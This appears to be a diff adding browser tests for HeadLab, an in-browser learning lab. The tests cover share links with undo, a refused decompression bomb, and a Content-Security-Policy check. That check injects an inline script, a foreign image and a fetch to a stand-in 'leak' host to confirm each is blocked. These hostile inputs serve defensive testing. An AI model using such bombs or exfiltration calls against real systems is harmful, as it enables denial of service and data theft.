@@ -94,6 +94,56 @@ test('share link round trip through the real menu, and a hostile link is refused
   await context.close();
 });
 
+test('a link opens on top of the learner\'s own work (undo returns to it), in an open tab too; bombs and old links', async () => {
+  const { page, errors, context } = await openLab(browser, server.url);
+  // The shared lab, as a link made the way HeadLab's first links were (the browser's own deflate-raw).
+  const shared = await page.evaluate(async () => {
+    const h = window.headlab;
+    h.setText('The red fox saw a bird.');
+    h.setHeadCount(2);
+    const text = h.saveState();
+    const stream = new Blob([new TextEncoder().encode(text)]).stream().pipeThrough(new CompressionStream('deflate-raw'));
+    const bytes = new Uint8Array(await new Response(stream).arrayBuffer());
+    let binary = '';
+    for (const b of bytes) binary += String.fromCharCode(b);
+    return '#s=' + btoa(binary).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
+  });
+  // The learner's own work, autosaved.
+  await page.evaluate(() => { window.headlab.setText('My own sentence about a cat.'); window.headlab.setHeadCount(5); });
+  await waitForAutosave(page);
+  await page.goto('about:blank');
+  await page.goto(server.url + shared);
+  await ready(page);
+  await frames(page, 2);
+  let state = await page.evaluate(() => window.headlab.state());
+  assert.match(state.text, /red fox/);
+  assert.equal(state.layers[0].heads.length, 2);
+  assert.match(await toast(page), /Undo/);
+  assert.equal(await page.evaluate(() => location.hash), '', 'the link leaves the address bar once opened');
+  await page.evaluate(() => window.headlab.undo());
+  state = await page.evaluate(() => window.headlab.state());
+  assert.match(state.text, /own sentence/, 'undo goes back to the work that was there before the link');
+  assert.equal(state.layers[0].heads.length, 5);
+
+  // A link pasted into the address bar of an open tab only changes the hash: it still opens.
+  await page.evaluate((fragment) => { location.hash = fragment; }, shared);
+  await page.waitForFunction(() => window.headlab.state().text.includes('red fox'), null, { timeout: 10000 });
+
+  // A decompression bomb (a few kB expanding to 40 MB of zeros) is refused before it expands, and
+  // the work stays.
+  const { deflateRawSync } = await import('node:zlib');
+  const bomb = '#s=' + deflateRawSync(Buffer.alloc(40 << 20)).toString('base64url');
+  assert.ok(bomb.length < 100000);
+  const before = await page.evaluate(() => window.headlab.saveState());
+  await page.evaluate((fragment) => { location.hash = fragment; }, bomb);
+  await page.waitForFunction(() => /could not be read/.test(document.getElementById('toast')?.textContent || ''), null, { timeout: 10000 });
+  assert.match(await toast(page), /more than 32 MB/);
+  assert.equal(await page.evaluate(() => window.headlab.saveState()), before);
+  await screenshot(page, 'persistence-bomb-link');
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
 test('importing a malformed file is refused with a precise message and the work stays', async () => {
   const { page, context } = await openLab(browser, server.url);
   await page.evaluate(() => window.headlab.setWeight(0, 0, 'W_V', 2, 2, 7));
@@ -166,5 +216,46 @@ test('soak: thousands of random edits, bounded wasm memory, no console errors', 
   console.log(`soak: 4000 edits, ${result.refused} refused with a message, wasm memory ${result.warm} -> ${result.after} bytes`);
   await frames(page, 3);
   assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('the page fetches only its own files; its policy forbids eval, inline scripts and foreign origins', async () => {
+  const { page, requests, context } = await openLab(browser, server.url);
+  // Exercise what loads lazily: a lesson, a share link, a few training steps, an export.
+  await page.evaluate(() => {
+    const h = window.headlab;
+    h.startLesson(1, 0);
+    h.request({ op: 'shareLink' });
+    h.trainStep(5);
+    h.exportModel();
+  });
+  await frames(page, 5);
+  const origin = new URL(server.url).origin;
+  const foreign = requests.filter((url) => !url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:'));
+  assert.deepEqual(foreign, [], 'every request stays on the page\'s own origin');
+  // DevTools' own evaluate is exempt from the page's policy, so the policy is checked by what it
+  // reports: markup injected the way a hostile state would try (an inline script, a foreign
+  // image) and a foreign fetch must each raise a violation and never run or leave the page.
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+    const script = document.createElement('script');
+    script.textContent = 'window.__injected = true;';
+    document.head.appendChild(script);
+    const image = document.createElement('img');
+    image.src = 'http://198.51.100.7/pixel.png';
+    document.body.appendChild(image);
+    let fetched = 'sent';
+    try { await fetch('http://198.51.100.7/leak'); } catch (e) { fetched = e.name; }
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    image.remove();
+    const policy = document.querySelector('meta[http-equiv="Content-Security-Policy"]').content;
+    return { violations: [...new Set(violations)].sort(), injected: window.__injected === true, fetched, policy };
+  });
+  assert.deepEqual(outcome.violations, ['connect-src', 'img-src', 'script-src-elem']);
+  assert.equal(outcome.injected, false);
+  assert.equal(outcome.fetched, 'TypeError');
+  const scriptSrc = outcome.policy.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src'));
+  assert.equal(scriptSrc, "script-src 'self' 'wasm-unsafe-eval'", 'no eval, no inline script, no foreign origin');
   await context.close();
 });
